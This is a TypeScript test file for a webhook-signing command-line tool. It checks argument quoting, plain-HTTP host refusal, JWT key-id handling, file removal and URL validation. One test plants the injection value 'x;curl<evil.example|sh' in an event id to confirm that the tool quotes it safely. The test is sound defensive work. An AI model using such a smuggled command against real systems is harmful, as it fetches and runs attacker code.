// Texts that others gave are no more than texts: in a command to paste, as a name for plain HTTP, beside another key.
import { mkdirSync, mkdtempSync, rmSync, utimesSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Readable, Writable } from "node:stream";
import { generateKey } from "hookproof/jwks";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { removalOf } from "../src/files.js";
import { run } from "../src/main.js";

let folder: string;
const path = (name: string) => join(folder, name);
const LISTENER = "https://tenant.example.com/api/v1/webhooks/incoming/lst_1";

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), "hookproof-given-"));
  mkdirSync(path("data"), { mode: 0o700 });
  writeFileSync(path("secret.txt"), "a-secret-of-more-than-thirty-two-characters", { mode: 0o600 });
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

async function outcome(argv: readonly string[], env: Record<string, string> = {}): Promise<[number, string]> {
  const written: string[] = [];
  const sink = () =>
    new Writable({
      write(chunk, _encoding, done) {
        written.push(String(chunk));
        done();
      },
    });
  const exit = await run(argv, {
    stdin: Readable.from([]),
    stdout: sink(),
    stderr: sink(),
    env: { HOOKPROOF_HOME: path("data"), NO_COLOR: "1", ...env },
    stopSignal: AbortSignal.timeout(5_000),
  });
  return [exit, written.join("")];
}

it("an event's id of its own form is one word in the command to paste", async () => {
  const record = {
    ...{ v: 1, type: "event", at: Date.now(), eventId: "x;curl<evil.example|sh", url: LISTENER },
    ...{ method: "hmac", headers: {}, bodyBase64: "e30=", outcome: "accepted" },
    credential: { kind: "profile", profile: "a" },
  };
  writeFileSync(path("data/history.jsonl"), `${JSON.stringify(record)}\n`, { mode: 0o600 });
  const [, shown] = await outcome(["events", "list"]);
  expect(shown).toContain("next: hookproof events show 'x;curl<evil.example|sh'");
});

describe("a name for plain HTTP that is one of the Internet is refused", () => {
  const signing = ["--data", "{}", "--secret-file"];
  it.each<[string, (flag: readonly string[]) => readonly string[]]>([
    ["sign", (flag) => ["sign", LISTENER, ...signing, path("secret.txt"), ...flag]],
    ["send", (flag) => ["send", LISTENER, ...signing, path("secret.txt"), "--dry-run", ...flag]],
    ["test", (flag) => ["test", LISTENER, "--secret-file", path("secret.txt"), ...flag]],
  ])("by %s", async (_, argv) => {
    const refused = [2, expect.stringContaining('--plain-http cannot be "example.com"')];
    expect(await outcome(argv(["--plain-http", "example.com"]))).toEqual(refused);
    expect(await outcome(argv([]), { HOOKPROOF_PLAIN_HTTP: "example.com" })).toEqual(refused);
  });

  it("by profile add, which writes nothing", async () => {
    const file = path("plain.config.json");
    const argv = ["profile", "add", "x", "--plain-http", "example.com", "--config", file];
    expect(await outcome(argv)).toEqual([2, expect.stringContaining("--plain-http cannot be")]);
    expect(await outcome(["profile", "add", "x", "--plain-http", "app", "--config", file])).toEqual([
      0,
      expect.stringContaining("plain.config.json"),
    ]);
  });
});

it("a profile's kid is put on the same file's key alone", async () => {
  const keyFile = async (name: string) => {
    const { privateJwk } = await generateKey({ alg: "ES256", kid: name });
    writeFileSync(path(`${name}.json`), JSON.stringify({ ...privateJwk, kid: name, alg: "ES256" }), {
      mode: 0o600,
    });
    return path(`${name}.json`);
  };
  const [own, other] = [await keyFile("own"), await keyFile("other")];
  writeFileSync(
    path("kid.config.json"),
    JSON.stringify({ profile: "a", profiles: { a: { method: "jwt", key: own, kid: "named" } } }),
  );
  const signed = async (env: Record<string, string>) => {
    const argv = ["sign", LISTENER, "--data", "{}", "--json", "--config", path("kid.config.json")];
    const [exit, shown] = await outcome(argv, env);
    expect([exit, shown]).toEqual([0, expect.stringContaining("Bearer ")]);
    const [, head = ""] = /Bearer ([^.]+)/.exec(shown) ?? [];
    return JSON.parse(Buffer.from(head, "base64url").toString()).kid;
  };
  expect(await signed({})).toBe("named");
  expect(await signed({ HOOKPROOF_KEY: other })).toBe("other");
});

it("a file of another's, under the number of one that is gone, stays", () => {
  const [file, kept] = [path("made"), path("kept")];
  writeFileSync(file, "made");
  removalOf(file)();
  expect(() => utimesSync(file, 1, 1)).toThrow("ENOENT");
  writeFileSync(kept, "made");
  const remove = removalOf(kept);
  utimesSync(kept, 1, 1);
  remove();
  expect(() => utimesSync(kept, 1, 1)).not.toThrow();
});

it("an address of a service that is no URL is no file's name", async () => {
  expect(await outcome(["service", "export", "--base-url", "localhost:4420"])).toEqual([
    2,
    expect.stringContaining('--base-url must be an http or https URL, not "localhost:4420"'),
  ]);
});
